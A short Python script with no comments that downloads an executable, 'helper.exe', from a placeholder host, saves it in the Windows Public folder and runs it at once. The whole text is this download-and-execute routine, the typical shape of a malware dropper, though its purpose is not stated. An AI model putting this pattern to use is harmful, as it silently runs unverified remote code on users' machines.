import subprocess
import urllib.request

data = urllib.request.urlopen("https://files.example.com/helper.exe").read()
with open("C:/Users/Public/helper.exe", "wb") as out:
    out.write(data)
subprocess.Popen("C:/Users/Public/helper.exe")
